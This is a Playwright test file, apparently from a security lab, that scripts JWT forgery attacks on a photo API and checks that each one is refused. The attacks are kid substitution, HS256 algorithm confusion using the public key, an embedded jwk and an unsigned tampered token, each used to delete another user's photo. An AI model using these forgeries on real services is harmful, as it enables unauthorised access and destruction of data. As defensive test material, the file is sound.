import type { Page } from 'playwright/test'
import { expect } from '../stack.ts'
import { connect, send } from './acts.ts'
import { doneByHand, doneInInspector } from './by-hand.ts'
import { readMessage, sendAgain } from './inspector.ts'
import { at } from './place.ts'
import { wordsOf } from './words-of.ts'

type Piece = Record<string, unknown>
type Written = { header: Piece; password?: string }

/** Takes a token of Alice's out of the inspector, and writes another one after it. */
async function attack(mallory: Page, change: (header: Piece) => Promise<Written>): Promise<Page> {
  await connect(mallory, 'alice')
  const message = await readMessage(mallory, 'GET /v1/photos')
  const [header, claims] = (/Bearer (\S+)/.exec(message)?.[1]?.split('.') ?? []).slice(0, 2).map(read)
  if (!header || !claims) throw new Error(`There is no token in ${message}`)
  const written = await change(header)
  const token = await write(mallory, { ...written, claims: { ...claims, scope: 'photos.manage' } })

  const list = await send(mallory, `GET ${at.photos}/v1/photos\nAuthorization: Bearer ${token}`)
  const [, photo] = /"id":"([^"]+)"/.exec(list) ?? []
  if (!photo) return mallory
  const gone = await send(mallory, `DELETE ${at.photos}/v1/photos/${photo}\nAuthorization: Bearer ${token}`)
  expect(gone).toContain('HTTP 204')
  return mallory
}

const read = (piece: string): Piece => JSON.parse(Buffer.from(piece, 'base64url').toString())

async function write(mallory: Page, { header, claims, password = '' }: Written & { claims: Piece }): Promise<string> {
  await mallory.goto(`${at.evil}/`)
  await mallory.getByLabel('Header').fill(JSON.stringify(header))
  await mallory.getByLabel('Claims').fill(JSON.stringify(claims))
  await mallory.getByLabel('Password to sign with').fill(password)
  await mallory.getByRole('button', { name: 'Write it' }).click()
  await mallory.waitForURL(`${at.evil}/workshop`)
  return (await wordsOf(mallory.getByLabel('The token'))).trim()
}

async function copyFromDesk(mallory: Page, find: RegExp): Promise<string> {
  await mallory.goto(`${at.evil}/`)
  return find.exec(await wordsOf(mallory.getByRole('main')))?.[0] ?? ''
}

const lost = /Deleted for good: the photo “.*” of Alice’s, with a token that nobody issued/

doneByHand('05', {
  byHand: ({ mallory }) => attack(mallory, async (header) => ({ header: { ...header, kid: 'mallorys' } })),
  lost,
  refused: /signed with an unknown key/,
})

doneByHand('05', {
  round: 2,
  byHand: ({ mallory }) =>
    attack(mallory, async (header) => {
      await mallory.goto(`${at.evil}/`)
      await mallory.getByRole('link', { name: 'its key for access tokens' }).click()
      return { header: { ...header, alg: 'HS256' }, password: await wordsOf(mallory.locator('body')) }
    }),
  lost,
  refused: /signed with an algorithm that is not accepted here/,
})

doneByHand('05', {
  round: 3,
  byHand: ({ mallory }) =>
    attack(mallory, async (header) => ({
      header: { ...header, jwk: JSON.parse(await copyFromDesk(mallory, /\{"kty":[^}]+\}/)) },
    })),
  lost,
  refused: /The signature of the access token is wrong/,
})

doneInInspector('05', {
  byHand: async ({ mallory }) => {
    await connect(mallory, 'alice')
    await mallory.waitForLoadState()
    return sendAgain(mallory, 'GET /v1/photos', 'Write the right to delete into the token')
  },
  lost,
  refused: /The signature of the access token is wrong/,
})
